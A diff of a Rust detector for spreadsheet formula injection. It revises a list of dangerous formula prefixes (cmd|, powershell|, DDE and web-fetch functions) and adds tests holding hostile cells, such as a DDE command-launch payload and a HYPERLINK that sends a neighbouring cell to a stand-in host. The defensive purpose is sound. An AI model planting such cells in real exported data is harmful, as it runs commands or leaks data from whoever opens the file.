@@ -227,33 +227,25 @@ fn is_page_script(text: &str) -> bool {
         && (lower.contains("</script") || !lower.contains("<script"))
 }
 
-/// Beginnings of cells that a spreadsheet runs or fetches, behind their `=`.
-const FORMULAS: [&str; 12] = [
-    "cmd|",
-    "powershell|",
-    "mshta|",
-    "rundll32|",
-    "msexcel|",
-    "dde(",
-    "webservice(",
-    "importxml(",
-    "importdata(",
-    "importfeed(",
-    "importrange(",
-    "hyperlink(\"http",
-];
+/// Functions by which a spreadsheet fetches something.
+const FETCHES: [&str; 7] =
+    ["webservice(", "importxml(", "importhtml(", "importdata(", "importfeed(", "importrange(", "dde("];
+/// Functions that are harmless unless what stands in other cells goes along.
+const SHOWS: [&str; 2] = ["hyperlink(", "image("];
 
 /// Cells of a table that a spreadsheet runs, or by which it sends what stands beside them elsewhere.
 #[must_use]
 pub fn inspect_formulas(table: &str) -> Vec<Sighting> {
     let cells = table.lines().flat_map(|line| line.split([',', ';', '\t']));
     let formula = |cell: &&str| {
-        let cell = cell.trim_start_matches(['"', '\'', ' ']);
-        let Some(body) = cell.strip_prefix(['=', '+', '-', '@']).filter(|body| body.contains(['|', '('])) else {
-            return false;
-        };
-        let lower = body.trim_start_matches(['=', '+', '-', '@']).to_ascii_lowercase().replace("\"\"", "\"");
-        FORMULAS.iter().any(|front| lower.starts_with(front)) || lower.contains("cmd|") && lower.contains('!')
+        let cell = cell.trim_start_matches(['\u{feff}', '"', '\'', ' ']);
+        let body = cell.strip_prefix(['=', '+', '-', '@']).filter(|body| body.contains(['|', '(']));
+        let Some(body) = body else { return false };
+        let plain: String = body.to_ascii_lowercase().chars().filter(|c| *c != ' ').collect();
+        let has = |name: &&str| plain.contains(name);
+        let shows =
+            SHOWS.iter().any(has) && plain.contains("http") && (plain.contains('&') || plain.contains("concat"));
+        FETCHES.iter().any(has) || shows || plain.contains("|'") && plain.contains('!')
     };
     let cell = { cells }.find(formula);
     cell.map(|cell| planted(cell, "cell", "formula", "电子表格会执行的公式", "a formula that a spreadsheet runs"))
@@ -371,6 +363,9 @@ mod tests {
             ("a,b\nx,=cmd|'/c calc'!A1", 1),
             ("a\tb\n\"=HYPERLINK(\"\"http://a.example/?x=\"\"&A1)\"\t1", 1),
             ("=1+cmd|' /C x'!A0", 1),
+            ("a,=1+ WEBSERVICE(\"http://a.example\")", 1),
+            ("a,=HYPERLINK(\"https://a.example/abs\")", 0),
+            ("text\n- say it | and run!", 0),
         ] {
             assert_eq!(inspect_formulas(table).len(), count, "{table}");
         }
